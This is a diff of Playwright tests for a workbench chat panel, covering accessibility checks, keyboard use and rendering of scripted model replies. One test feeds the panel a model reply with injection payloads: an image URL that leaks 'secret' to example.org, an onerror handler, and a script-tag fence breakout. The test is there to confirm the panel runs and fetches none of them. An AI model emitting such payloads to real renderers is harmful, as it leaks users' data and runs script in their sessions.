@@ -4,20 +4,25 @@ import type axe from 'axe-core';
 import type { Frame, Page } from '@playwright/test';
 import { callTool, failWith, holdUntil, say, think } from '../support/ollama/chatStep';
 import { Gate } from '../support/ollama/gate';
-import { openChat } from '../support/workbench/chatPanel';
 import { expect, MODEL, test } from '../support/workbench/fixtures';
-import { openWorkbench, run } from '../support/workbench/workbench';
+import { run } from '../support/workbench/workbench';
 
 /** What axe-core finds in the page of the panel, as lines. */
 async function violations(frame: Frame): Promise<readonly string[]> {
   await frame.evaluate(await readFile(createRequire(__filename).resolve('axe-core/axe.min.js'), 'utf8'));
+  // The page is transparent: axe cannot see what the workbench paints behind it, and would take white.
+  await frame
+    .locator('body')
+    .evaluate((body) => body.style.setProperty('background', 'var(--vscode-sideBar-background)'));
   return frame.evaluate(async () => {
     const { violations: found } = await (globalThis as unknown as { axe: typeof axe }).axe.run('.hf', {
       runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
       // Experimental, and wrong here: a row's name says as a sentence what the row shows in columns.
       rules: { 'label-content-name-mismatch': { enabled: false } },
     });
-    return found.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html.slice(0, 200)}`));
+    return found.flatMap(({ id, nodes }) =>
+      nodes.map((node) => `${id}: ${node.html.slice(0, 200)} ${node.any[0]?.message ?? ''}`),
+    );
   });
 }
 
@@ -34,20 +39,13 @@ async function chooseTheme(page: Page, frame: Frame, name: string): Promise<void
 }
 
 test.describe('The panel', () => {
-  test('has no barrier that axe finds, in any of the built-in kinds of theme', async ({
-    page,
-    server,
-    folder,
-    ollama,
-  }) => {
+  test('has no barrier that axe finds, in any of the built-in kinds of theme', async ({ panel, ollama, page }) => {
     ollama.script(
       think('Hm.'),
       say('# Title\n\nA **word**, `code`, [a link](https://example.org).\n\n```ts\nconst a = 1;\n```\n'),
       callTool('list_files', {}),
     );
     ollama.script(say('And then'), failWith('out of memory'));
-    await openWorkbench(page, server, folder);
-    const panel = await openChat(page);
     await panel.ask('Show me everything');
     await panel.waitForAnswer();
     await (await panel.button(/^Listed/)).click();
@@ -60,14 +58,11 @@ test.describe('The panel', () => {
   });
 
   test('is driven by the keyboard alone, and an Enter that ends an IME composition sends nothing', async ({
-    page,
-    server,
-    folder,
+    panel,
     ollama,
+    page,
   }) => {
     ollama.models.add('second:2b');
-    await openWorkbench(page, server, folder);
-    const panel = await openChat(page);
     const message = await panel.message();
     await message.focus();
     await page.keyboard.type('first line');
@@ -99,7 +94,7 @@ test.describe('The panel', () => {
     await expect(message).toHaveValue('first line\nsecond line');
   });
 
-  test('runs and fetches nothing that a model writes', async ({ page, server, folder, ollama, workbench }) => {
+  test('runs and fetches nothing that a model writes', async ({ panel, ollama, workbench }) => {
     ollama.script(
       say(
         '![x](https://example.org/?d=secret) <img src="https://example.org/i" onerror="document.title=1"> ',
@@ -107,8 +102,6 @@ test.describe('The panel', () => {
         '```html"><script>document.title=1</script>\n<svg><image href="https://example.org/s"/></svg>\n```\n',
       ),
     );
-    await openWorkbench(page, server, folder);
-    const panel = await openChat(page);
     await panel.ask('Attack');
     await panel.waitForAnswer();
     const log = (await panel.frame()).getByRole('log', { name: 'Conversation' });
